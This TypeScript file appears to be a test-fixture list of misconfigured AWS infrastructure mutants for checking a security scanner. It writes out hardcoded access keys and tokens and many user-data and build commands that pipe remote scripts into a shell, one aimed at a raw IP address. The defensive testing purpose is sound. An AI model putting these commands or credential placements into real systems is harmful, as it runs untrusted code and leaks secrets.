import { added, aws, type StackMutant, welcome } from "./mutant.ts";

const HOST = aws("foundation", "ec2/launchTemplate:LaunchTemplate", "access-host-template");
const NODES = aws("platform", "ec2/launchTemplate:LaunchTemplate", "system-nodes-template");
const RUNNER = aws("foundation", "codebuild/project:Project", "ci-runner");

const AWS_KEY = ["AKIA", "Q3EGRZNJ7YQ2LKXW"].join("");
const GITHUB_TOKEN = ["ghp", "q7Rk9sLw2mXvB4tZq7Rk9sLw2mXvB4tZq7Rk"].join("_");
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const script = (...lines: string[]): string => ["#!/bin/bash", ...lines, ""].join("\n");
const started = (text: string) => (inputs: any) => {
  inputs["userData"] = base64(text);
};

const more = (what: string, type: string, inputs: object): StackMutant => added("foundation", `aws:${type}`, what, { ...inputs });
const spare = (what: string, type: string, inputs: object): StackMutant =>
  welcome("foundation", `aws:${type}`, what, { ...inputs });

const credential = "codebuild/sourceCredential:SourceCredential";
const machine = { ami: "ami-0123456789", instanceType: "t3.small", metadataOptions: { httpTokens: "required" } };
const lambda = {
  role: "arn:aws:iam::333333333333:role/millrace-prod-notify",
  runtime: "nodejs24.x",
  handler: "index.handler",
};

/** Secrets that lie open in AWS, and programs of the internet that machines run. */
export const LEAKS: readonly StackMutant[] = [
  more("a token of GitHub for builds", credential, {
    authType: "PERSONAL_ACCESS_TOKEN",
    serverType: "GITHUB",
    token: GITHUB_TOKEN,
  }),
  more("a password of Bitbucket for builds", credential, {
    authType: "BASIC_AUTH",
    serverType: "BITBUCKET",
    userName: "risk",
    token: "q7Rk9sLw2mXvB4tZ",
  }),
  spare("a connection to GitHub for builds", credential, {
    authType: "CODECONNECTIONS",
    serverType: "GITHUB",
    token: "arn:aws:codeconnections:eu-north-1:333333333333:connection/56113cde-5bd0-d2d9-d60e-47986d2e4d1d",
  }),
  RUNNER.bad("a runner with a token in plain text, said to be so", (inputs) => {
    inputs["environment"].environmentVariables = [
      { name: "NPM_TOKEN", value: "npm_q7Rk9sLw2mXvB4tZq7Rk9sLw2mXvB4tZq7Rk", type: "PLAINTEXT" },
    ];
  }),
  RUNNER.bad("a runner with a token in its program", (inputs) => {
    inputs["source"].buildspec =
      `version: 0.2\nenv:\n  variables:\n    GITHUB_TOKEN: ${GITHUB_TOKEN}\nphases:\n  build:\n    commands: [make]\n`;
  }),
  RUNNER.bad("a runner that runs a program of the internet", (inputs) => {
    inputs["source"].buildspec =
      "version: 0.2\nphases:\n  install:\n    commands:\n      - curl -sSL https://get.example.com | bash\n";
  }),
  RUNNER.bad("a runner that is root, as text", (inputs) => {
    inputs["environment"].privilegedMode = "true";
  }),

  HOST.bad("a host that starts with a program of the internet", started(script("curl -fsSL https://get.example.com | bash"))),
  HOST.bad(
    "a host that starts with a program of the internet, as root",
    started(script("wget -qO- https://get.example.com/x.sh | sudo sh -")),
  ),
  HOST.bad("a host that starts with a program in another shell", started(script("bash <(curl -s https://get.example.com)"))),
  HOST.bad("a host that starts with a program as an argument", started(script('sh -c "$(curl -fsSL https://get.example.com)"'))),
  HOST.bad("a host that starts with a program of Python", started(script("curl https://get.example.com/x.py | python3 -"))),
  HOST.bad("a host that starts with a program, in plain text", (inputs) => {
    inputs["userData"] = script("curl https://get.example.com | sh");
  }),
  HOST.bad(
    "a host that starts with a program, in a cloud-config",
    started("#cloud-config\nruncmd:\n  - curl -L https://get.example.com | sh\n"),
  ),
  HOST.bad(
    "a host that starts with a program, kept first",
    started(script("curl -o /tmp/x https://get.example.com && chmod +x /tmp/x && /tmp/x")),
  ),
  HOST.bad("a host that starts with a program by its name", started(script("wget https://get.example.com/x.sh", "bash x.sh"))),
  HOST.bad(
    "a host that starts with a program, written to a file",
    started(script("curl https://get.example.com > /tmp/x; sh /tmp/x")),
  ),
  more("machines that run a program of the internet by a schedule", "ssm/association:Association", {
    name: "AWS-RunShellScript",
    parameters: { commands: "curl https://get.example.com | sh" },
  }),
  more("a pipeline with a token", "codepipeline/pipeline:Pipeline", {
    name: "x",
    roleArn: "arn:aws:iam::333333333333:role/x",
    stages: [{ name: "source", actions: [{ name: "source", configuration: { OAuthToken: GITHUB_TOKEN } }] }],
  }),
  NODES.bad("nodes that start with a program of the internet", started(script("curl -s http://198.51.100.7/x | bash"))),
  more("a machine that starts with a program of the internet", "ec2/instance:Instance", {
    ...machine,
    userData: script("curl https://get.example.com | sh"),
  }),
  more("a machine that starts with a program of the internet, in base64", "ec2/instance:Instance", {
    ...machine,
    userDataBase64: base64(script("curl https://get.example.com | sh")),
  }),
  HOST.harmless(
    "a host that fetches a file and checks it",
    started(
      script(
        "curl -fsSLo tool.tgz https://releases.example.com/tool.tgz",
        "echo '9f86d081884c7d65 tool.tgz' | sha256sum -c -",
        "tar xf tool.tgz",
      ),
    ),
  ),
  HOST.harmless(
    "a host that asks where it runs",
    started(script("curl -s http://169.254.169.254/latest/meta-data/placement/region | tee /etc/region")),
  ),
  HOST.harmless(
    "a host that reads JSON of the internet",
    started(script("curl -s https://ip-ranges.amazonaws.com/ip-ranges.json | jq .syncToken")),
  ),

  more("a key of AWS in a parameter", "ssm/parameter:Parameter", { name: "/millrace/uploader", type: "String", value: AWS_KEY }),
  more("a key of AWS in a closed parameter", "ssm/parameter:Parameter", {
    name: "/millrace/uploader",
    type: "SecureString",
    value: AWS_KEY,
  }),
  more("a token in a parameter of another name", "ssm/parameter:Parameter", {
    name: "/millrace/settings",
    type: "String",
    insecureValue: JSON.stringify({ token: GITHUB_TOKEN }),
  }),
  more("a key of AWS in a list of parameters", "ssm/parameter:Parameter", {
    name: "/millrace/all",
    type: "StringList",
    value: `a,${AWS_KEY}`,
  }),
  more("a key of AWS in a secret", "secretsmanager/secretVersion:SecretVersion", { secretId: "uploader", secretString: AWS_KEY }),
  more("a key of AWS in an object", "s3/bucketObjectv2:BucketObjectv2", {
    bucket: "millrace-prod-data-c9eac55",
    key: "config/credentials",
    content: `[default]\naws_access_key_id = ${AWS_KEY}\n`,
  }),
  more("a key of AWS in an object of the older kind", "s3/bucketObject:BucketObject", {
    bucket: "millrace-prod-data-c9eac55",
    key: "config/credentials",
    contentBase64: base64(`[default]\naws_access_key_id = ${AWS_KEY}\n`),
  }),
  more("a token in a note at an object", "s3/bucketObjectv2:BucketObjectv2", {
    bucket: "millrace-prod-data-c9eac55",
    key: "config/x",
    content: "x",
    metadata: { token: GITHUB_TOKEN },
  }),
  more("a function with a key of AWS", "lambda/function:Function", {
    ...lambda,
    name: "upload",
    environment: { variables: { UPLOADER: AWS_KEY } },
  }),
  more("a key of AWS for a user", "iam/accessKey:AccessKey", { user: "uploader" }),
  more("a command for machines with a key of AWS", "ssm/document:Document", {
    name: "upload",
    documentType: "Command",
    content: JSON.stringify({
      schemaVersion: "2.2",
      mainSteps: [{ action: "aws:runShellScript", name: "x", inputs: { runCommand: [`export AWS_ACCESS_KEY_ID=${AWS_KEY}`] } }],
    }),
  }),
  more("a command for machines with a program of the internet", "ssm/document:Document", {
    name: "install",
    documentType: "Command",
    content: JSON.stringify({
      schemaVersion: "2.2",
      mainSteps: [{ action: "aws:runShellScript", name: "x", inputs: { runCommand: ["curl https://get.example.com | sh"] } }],
    }),
  }),
  more("a token in a setting of an app", "appconfig/hostedConfigurationVersion:HostedConfigurationVersion", {
    applicationId: "a",
    configurationProfileId: "b",
    contentType: "application/json",
    content: JSON.stringify({ apiKey: GITHUB_TOKEN }),
  }),
  more("a call with a token on a schedule", "scheduler/schedule:Schedule", {
    flexibleTimeWindow: { mode: "OFF" },
    scheduleExpression: "rate(1 hour)",
    target: {
      arn: "arn:aws:lambda:eu-north-1:333333333333:function:x",
      roleArn: "arn:aws:iam::333333333333:role/x",
      input: JSON.stringify({ token: GITHUB_TOKEN }),
    },
  }),
  more("a message with a token on an event", "cloudwatch/eventTarget:EventTarget", {
    rule: "x",
    arn: "arn:aws:lambda:eu-north-1:333333333333:function:x",
    input: JSON.stringify({ token: GITHUB_TOKEN }),
  }),
  spare("a plain parameter", "ssm/parameter:Parameter", { name: "/millrace/region", type: "String", value: "eu-north-1" }),
  spare("a plain object", "s3/bucketObjectv2:BucketObjectv2", {
    bucket: "millrace-prod-data-c9eac55",
    key: "config/limits.json",
    content: JSON.stringify({ max_tokens: 512 }),
  }),
  spare("a command for machines that reads a secret", "ssm/document:Document", {
    name: "rotate",
    documentType: "Command",
    content: JSON.stringify({
      schemaVersion: "2.2",
      mainSteps: [
        {
          action: "aws:runShellScript",
          name: "x",
          inputs: { runCommand: ["aws secretsmanager get-secret-value --secret-id smtp | jq -r .SecretString > /run/smtp"] },
        },
      ],
    }),
  }),
];
